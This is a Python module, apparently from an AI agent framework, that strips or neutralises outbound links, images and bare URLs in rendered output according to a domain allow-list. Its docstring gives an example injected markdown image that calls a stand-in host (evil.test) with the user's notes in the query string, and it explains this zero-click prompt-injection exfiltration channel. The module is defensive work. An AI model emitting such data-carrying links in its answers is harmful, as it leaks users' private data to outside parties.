"""Links in output that leaves the system: those to domains outside an allow-list are
neutralised, so a rendered answer cannot carry data out.

A markdown image is fetched by the viewer the moment the answer is shown, with no click:
an injected ``![](https://evil.test/p.png?d=<notes>)`` is a zero-click exfiltration
channel. A link with data in its query string is one click away from the same. In a
workflow file::

    security:
      link_domains: [example.com, docs.python.org]   # default: none listed

With ``link_domains`` listed, every link, image and bare URL to another domain is
neutralised. With none listed, images and URLs with a query string are neutralised
(any domain) and plain links are kept. Neutralised means the URL is replaced by a note
naming its host (``[link removed: evil.test]``); the link text stays.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from pydantic import JsonValue

from agentledger.security.policy import domain_allowed

__all__ = ["neutralise_links"]

_MD = re.compile(
    r"(?P<bang>!?)\[(?P<text>[^\]\n]*)\]\(\s*<?(?P<url>[a-z][a-z0-9+.-]*://[^\s)>]+)>?[^)]*\)", re.I
)
_IMG = re.compile(r"<img\b[^>]*>", re.I)
_BARE = re.compile(r"(?<![(\"'=\[])\b[a-z][a-z0-9+.-]*://[^\s<>\"')\]]+", re.I)
_SRC = re.compile(r"\bsrc\s*=\s*[\"']?([^\"'\s>]+)", re.I)


def _host(url: str) -> str:
    try:
        return urlsplit(url).hostname or "?"
    except ValueError:
        return "?"


def _keep(url: str, image: bool, allowed: tuple[str, ...] | None) -> bool:
    if allowed is not None:
        return domain_allowed(_host(url), allowed)
    return not image and "?" not in url


def _text(text: str, allowed: tuple[str, ...] | None, removed: list[str]) -> str:
    if "://" not in text:
        return text

    def markdown(m: re.Match[str]) -> str:
        url, image = m.group("url"), bool(m.group("bang"))
        if _keep(url, image, allowed):
            return m.group()
        removed.append(url)
        kind = "image" if image else "link"
        return f"{m.group('text')} [{kind} removed: {_host(url)}]".lstrip()

    def img(m: re.Match[str]) -> str:
        src = _SRC.search(m.group())
        url = src.group(1) if src else ""
        if url and _keep(url, True, allowed):
            return m.group()
        removed.append(url)
        return f"[image removed: {_host(url)}]"

    def bare(m: re.Match[str]) -> str:
        url = m.group().rstrip(".,;:!?")  # sentence punctuation is not part of the URL
        tail = m.group()[len(url) :]
        if _keep(url, False, allowed):
            return m.group()
        removed.append(url)
        return f"[link removed: {_host(url)}]{tail}"

    text = _MD.sub(markdown, text)
    text = _IMG.sub(img, text)
    return _BARE.sub(bare, text)


def neutralise_links(
    value: JsonValue, allowed: tuple[str, ...] | None
) -> tuple[JsonValue, list[str]]:
    """``value`` with every outbound link that may carry data out neutralised, and the URLs
    removed."""
    removed: list[str] = []

    def walk(item: JsonValue) -> JsonValue:
        if isinstance(item, str):
            return _text(item, allowed, removed)
        if isinstance(item, dict):
            return {k: walk(v) for k, v in item.items()}
        if isinstance(item, list):
            return [walk(v) for v in item]
        return item

    out = walk(value)
    return (out, removed) if removed else (value, [])
